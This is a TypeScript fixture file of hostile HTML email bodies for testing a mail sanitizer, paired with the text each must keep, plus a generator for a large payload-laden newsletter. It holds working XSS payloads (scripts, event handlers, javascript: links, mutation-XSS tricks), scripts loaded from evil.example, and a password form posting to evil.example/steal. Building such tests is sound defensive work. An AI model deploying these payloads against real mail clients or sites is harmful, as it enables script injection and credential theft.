/**
 * HTML bodies written to attack a mail reader, each with the benign text that must survive sanitizing. Shared
 * by the sanitizer's tests and, later, the emulator's mailbox, so the same hostile mail that the unit tests
 * prove harmless can be opened in the example client. Pure data: no imports, built once per process.
 */

export interface HostileHtml {
  /** Short, unique, says what the attack is. */
  readonly name: string;
  readonly html: string;
  /** Text that a reader must still see after sanitizing (compared on the text content of the result). */
  readonly keeps: readonly string[];
}

export const HOSTILE_HTML: readonly HostileHtml[] = [
  {
    name: 'script tags',
    html: '<p>Hello</p><script>window.__pwned = true</script><SCRIPT src="https://evil.example/x.js"></SCRIPT><p>World</p>',
    keeps: ['Hello', 'World'],
  },
  {
    name: 'event handlers',
    html:
      '<img src="x" onerror="window.__pwned = true"><body onload="window.__pwned = true">' +
      '<div onclick="alert(1)" onmouseover="alert(2)">Click me</div><a href="https://ok.example" onfocus="alert(3)">ok</a>',
    keeps: ['Click me', 'ok'],
  },
  {
    name: 'javascript, vbscript and data links',
    html:
      '<a href="javascript:alert(1)">one</a><a href="JaVaScRiPt:alert(2)">two</a>' +
      '<a href="jav&#x09;ascript:alert(3)">three</a><a href="&#106;avascript:alert(4)">four</a>' +
      '<a href=" javascript:alert(5)">five</a><a href="vbscript:msgbox(6)">six</a>' +
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">seven</a>',
    keeps: ['one', 'two', 'three', 'four', 'five', 'six', 'seven'],
  },
  {
    name: 'SVG with script',
    html:
      '<p>Logo:</p><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>' +
      '<a xlink:href="javascript:alert(3)"><rect width="10" height="10"/></a><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>' +
      '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><p>end</p>',
    keeps: ['Logo:', 'end'],
  },
  {
    name: 'CSS that fetches or runs',
    html:
      '<style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/track.gif) }</style>' +
      '<div style="background-image: url(https://evil.example/bg.png); color: red">red text</div>' +
      '<div style="width: expression(alert(1)); font-weight: bold">bold text</div>' +
      '<div style="background: u\\72 l(https://evil.example/escaped.png)">escaped</div>' +
      '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">bound</div>' +
      '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">overlay</div>',
    keeps: ['red text', 'bold text', 'escaped', 'bound', 'overlay'],
  },
  {
    name: 'base and meta refresh',
    html:
      '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/phish">' +
      '<meta charset="utf-8"><link rel="stylesheet" href="https://evil.example/s.css"><title>Hidden title</title></head>' +
      '<body><a href="https://shop.example/deal">Your deal</a></body></html>',
    keeps: ['Your deal'],
  },
  {
    name: 'forms, frames and plugins',
    html:
      '<form action="https://evil.example/steal" method="post"><p>Confirm your password</p><input type="password" name="p">' +
      '<button formaction="javascript:alert(1)">Send</button></form>' +
      '<iframe src="https://evil.example/frame"></iframe><frameset><frame src="https://evil.example"></frameset>' +
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="X"></applet>',
    keeps: ['Confirm your password', 'Send'],
  },
  {
    name: 'malformed nesting',
    html:
      '<scr<script>ipt>alert(1)</scr</script>ipt><p>still here' +
      '<div><b>unclosed <i>tags <a href="https://ok.example/x">link' +
      '<img """><script>alert(2)</script>"><<img src=x onerror=alert(3)//<',
    keeps: ['still here', 'unclosed', 'tags', 'link'],
  },
  {
    name: 'parser differential tricks',
    html:
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' +
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph></table></mtext></math>' +
      '<xmp><script>alert(3)</script></xmp><textarea><script>alert(4)</script></textarea>' +
      '<template><script>alert(5)</script></template><!--<script>alert(6)</script>--><p>visible</p>',
    keeps: ['visible'],
  },
  {
    name: 'tracking pixels and remote images',
    html:
      '<p>Newsletter</p><img src="https://track.example/open.gif?u=42" width="1" height="1" alt="">' +
      '<img src="//cdn.example/banner.png" alt="banner"><img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x">' +
      '<table background="https://track.example/bg.gif"><tr><td background="http://track.example/td.gif">Deals inside</td></tr></table>',
    keeps: ['Newsletter', 'Deals inside'],
  },
  {
    name: 'DOM clobbering',
    html: '<form id="config"><input name="apiUrl" value="https://evil.example"></form><a id="defaultView" name="cookie">clobber</a>',
    keeps: ['clobber'],
  },
];

/**
 * A newsletter of about `bytes` bytes (1 MB by default) whose rows mix benign layout with the attacks above, for
 * showing that a large body is sanitized whole and without blowing up. Row `i` says "Item i".
 */
export function largeNewsletter(bytes = 1024 * 1024): { html: string; rows: number } {
  const row = (i: number): string =>
    `<tr><td style="padding: 4px; color: #333">Item ${i}</td>` +
    `<td><a href="https://shop.example/item/${i}" onclick="steal(${i})">Buy</a>` +
    `<img src="https://track.example/p.gif?i=${i}" width="1" height="1"><script>steal(${i})</script></td></tr>\n`;
  const rows: string[] = [];
  let size = 0;
  while (size < bytes) {
    const next = row(rows.length);
    rows.push(next);
    size += next.length;
  }
  return { html: `<table>${rows.join('')}</table>`, rows: rows.length };
}
